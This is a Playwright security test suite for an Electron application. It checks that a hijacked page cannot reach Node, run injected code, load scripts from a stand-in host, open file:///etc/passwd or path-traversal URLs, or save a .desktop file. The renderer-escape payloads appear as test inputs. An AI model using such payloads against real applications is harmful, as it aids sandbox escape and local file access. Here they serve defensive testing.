/**
 * The page taken over: script that an attacker brought in runs in it (here: what `page.evaluate` runs) and tries everything. It
 * has what the page has, the bridge and a port to the engine, and must come to nothing beyond the contract.
 */
import { readdir } from 'node:fs/promises';
import { expect, test } from './app.ts';
import { SAMPLE } from './kit/captures.ts';
import { state } from './kit/taken-over.ts';

test('every window is made with all that holds a page, and nothing that lets it out', async ({ start }) => {
  const { page, electron } = (await start(SAMPLE)).program;
  await Promise.all([
    electron!.waitForEvent('window'),
    page.evaluate(() => (window as unknown as { netloupe: { openMini(): void } }).netloupe.openMini()),
  ]);
  const made = await electron!.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => {
      const { getLastWebPreferences: preferences } = contents as unknown as {
        getLastWebPreferences(): Record<string, unknown>;
      };
      return { url: contents.getURL(), ...preferences.call(contents) };
    }),
  );
  expect(made.map(({ url }) => url).toSorted()).toEqual(['netloupe://app/', 'netloupe://app/?mini']);
  for (const preferences of made) {
    expect(preferences).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      webSecurity: true,
      nodeIntegration: false,
      nodeIntegrationInSubFrames: false,
      allowRunningInsecureContent: false,
      webviewTag: false,
    });
    // Left out where they are as they begin.
    const left = preferences as Readonly<Record<string, unknown>>;
    const { nodeIntegrationInWorker = false, experimentalFeatures = false, enableBlinkFeatures = '' } = left;
    expect([nodeIntegrationInWorker, experimentalFeatures, enableBlinkFeatures]).toEqual([false, false, '']);
  }
});

test('script in the page reaches neither Node nor Electron, and makes no code of text', async ({ start }) => {
  const { page, electron } = (await start(SAMPLE)).program;
  const before = await state(electron!);
  const found = await page.evaluate(async () => {
    // What is evaluated by a debugger may make code of text; what comes after it is the page's own.
    await new Promise((resolve) => setTimeout(resolve));
    const throws = (attempt: () => unknown): boolean => {
      try {
        attempt();
        return false;
      } catch {
        return true;
      }
    };
    const rejects = (attempt: () => Promise<unknown>): Promise<boolean> =>
      Promise.resolve()
        .then(attempt)
        .then(
          () => false,
          () => true,
        );
    const settled = (element: HTMLElement): Promise<string> =>
      new Promise((resolve) => {
        element.addEventListener('load', () => resolve('loaded'));
        element.addEventListener('error', () => resolve('refused'));
        document.body.append(element);
      });
    const script = (attributes: Record<string, string>): Promise<string> =>
      settled(Object.assign(document.createElement('script'), attributes));
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = 1';
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.ran = 2' });
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.ran = 3');
    image.src = 'data:,';
    document.body.append(inline, link, image);
    link.click();
    const bridge = (window as unknown as { netloupe: Record<string, unknown> }).netloupe;
    const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
    return {
      globals: ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname'].filter(
        (name) => name in window,
      ),
      // Functions of the bridge are the page's own: their constructor makes functions of the page, or none.
      escapes: Object.values(bridge)
        .filter((value) => typeof value === 'function')
        .every((value) => throws(() => (value.constructor as (text: string) => () => unknown)('return process')())),
      frozen: throws(() => {
        'use strict';
        bridge['connect'] = () => undefined;
      }),
      // eslint-disable-next-line no-eval -- the attack
      evals: throws(() => (0, eval)('1')),
      // eslint-disable-next-line typescript/no-implied-eval -- the attack
      functions: throws(() => new Function('return 1')),
      wasm: await rejects(() => WebAssembly.compile(bytes)),
      wasmModule: throws(() => new WebAssembly.Module(bytes)),
      imports: await rejects(() => import(/* @vite-ignore */ ['data:text/javascript,', '1'].join(''))),
      dataScript: await script({ src: 'data:text/javascript,window.ran=4' }),
      blobScript: await script({ src: URL.createObjectURL(new Blob(['window.ran=5'], { type: 'text/javascript' })) }),
      foreignScript: await script({ src: 'https://evil.example/x.js' }),
      outsideScript: await script({ src: '/..%2f..%2fmain/desktop.js' }),
      serviceWorker: await rejects(() => navigator.serviceWorker.register('/assets/x.js')),
      ran: (window as unknown as { ran?: number }).ran ?? null,
      isolated: window.isSecureContext && !window.crossOriginIsolated,
    };
  });
  expect(found).toEqual({
    globals: [],
    escapes: true,
    frozen: true,
    evals: true,
    functions: true,
    wasm: true,
    wasmModule: true,
    imports: true,
    dataScript: 'refused',
    blobScript: 'refused',
    foreignScript: 'refused',
    outsideScript: 'refused',
    serviceWorker: true,
    ran: null,
    isolated: true,
  });
  // Workers start, and fail at once: their error is an event.
  const workers = await page.evaluate(async () => {
    const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    const outcome = (make: () => Worker | SharedWorker): Promise<string> =>
      new Promise((resolve) => {
        try {
          const worker = make();
          worker.addEventListener('error', () => resolve('refused'));
          if (worker instanceof Worker) worker.addEventListener('message', () => resolve('ran'));
          else worker.port.addEventListener('message', () => resolve('ran'));
        } catch {
          resolve('refused');
        }
      });
    return Promise.all([
      outcome(() => new Worker(blob)),
      outcome(() => new Worker('data:text/javascript,postMessage(1)')),
      outcome(() => new SharedWorker(blob)),
      outcome(() => new SharedWorker('data:text/javascript,1')),
    ]);
  });
  expect(workers).toEqual(['refused', 'refused', 'refused', 'refused']);
  expect(await state(electron!)).toEqual(before);
});

test('script in the page goes nowhere, opens nothing, frames nothing and saves nothing', async ({ start, folder }) => {
  const { page, electron } = (await start(SAMPLE)).program;
  const before = await state(electron!);
  await electron!.evaluate(({ session, shell }, downloads) => {
    const seen: string[] = [];
    Object.assign(globalThis, { seen });
    session.defaultSession.setDownloadPath(downloads);
    session.defaultSession.on('will-download', (event) => seen.push(`download ${event.defaultPrevented}`));
    for (const name of ['openExternal', 'openPath'] as const) {
      shell[name] = ((target: string) => {
        seen.push(`${name} ${target}`);
        return Promise.resolve('');
      }) as never;
    }
  }, folder);
  const kept = await readdir(folder);
  const attempts = await page.evaluate(async () => {
    const targets = [
      'https://evil.example/',
      'file:///etc/passwd',
      'netloupe://app/..%2f..%2fpackage.json',
      'netloupe://evil/',
      'data:text/html,<script>1</script>',
      'blob:netloupe://app/x',
      'mailto:x@evil.example',
      'chrome://settings',
      'devtools://devtools/bundled/inspector.html',
      'about:blank',
      'view-source:netloupe://app/',
    ];
    const opened = targets.filter((target) => window.open(target) !== null);
    const named = targets.filter((target) => window.open(target, 'x', 'nodeIntegration=yes,preload=/x') !== null);
    const frames: string[] = [];
    for (const target of targets) {
      const frame = document.createElement('iframe');
      frame.src = target;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        setTimeout(resolve, 300);
      });
      try {
        // A frame that was refused shows an error page of another origin, or the empty page it began with.
        const text = frame.contentDocument?.body.textContent ?? '';
        if (text.trim() !== '') frames.push(`${target}: ${text}`);
        if (frame.contentWindow !== null && 'netloupe' in frame.contentWindow) frames.push(`${target}: a bridge`);
      } catch {
        // Of another origin.
      }
      frame.remove();
    }
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://evil.example/');
    view.setAttribute('nodeintegration', '');
    document.body.append(view);
    for (const target of targets) {
      const link = Object.assign(document.createElement('a'), { href: target, target: '_blank' });
      document.body.append(link);
      link.click();
      const form = Object.assign(document.createElement('form'), { action: target, method: 'post' });
      document.body.append(form);
      form.submit();
    }
    const saved = document.createElement('a');
    saved.download = 'evil.desktop';
    saved.href = URL.createObjectURL(new Blob(['[Desktop Entry]']));
    document.body.append(saved);
    saved.click();
    const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
    document.head.append(base);
    return { opened, named, frames, webview: 'loadURL' in view || 'executeJavaScript' in view, base: document.baseURI };
  });
  expect(attempts).toEqual({ opened: [], named: [], frames: [], webview: false, base: page.url() });
  // From main, because a navigation that was refused leaves Playwright waiting for its end.
  await electron!.evaluate(async ({ BrowserWindow }) => {
    const { webContents } = BrowserWindow.getAllWindows()[0]!;
    for (const target of ['https://evil.example/', 'file:///etc/passwd', 'netloupe://app/?mini', 'data:text/html,x']) {
      await webContents.executeJavaScript(`location.assign(${JSON.stringify(target)}); void 0`);
      await webContents.executeJavaScript(
        `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${target}">'); void 0`,
      );
    }
  });
  await expect
    .poll(() => electron!.evaluate(() => (globalThis as unknown as { seen: string[] }).seen))
    .toEqual(['download true']);
  expect((await readdir(folder)).filter((name) => !kept.includes(name))).toEqual([]);
  expect(await state(electron!)).toEqual(before);
});
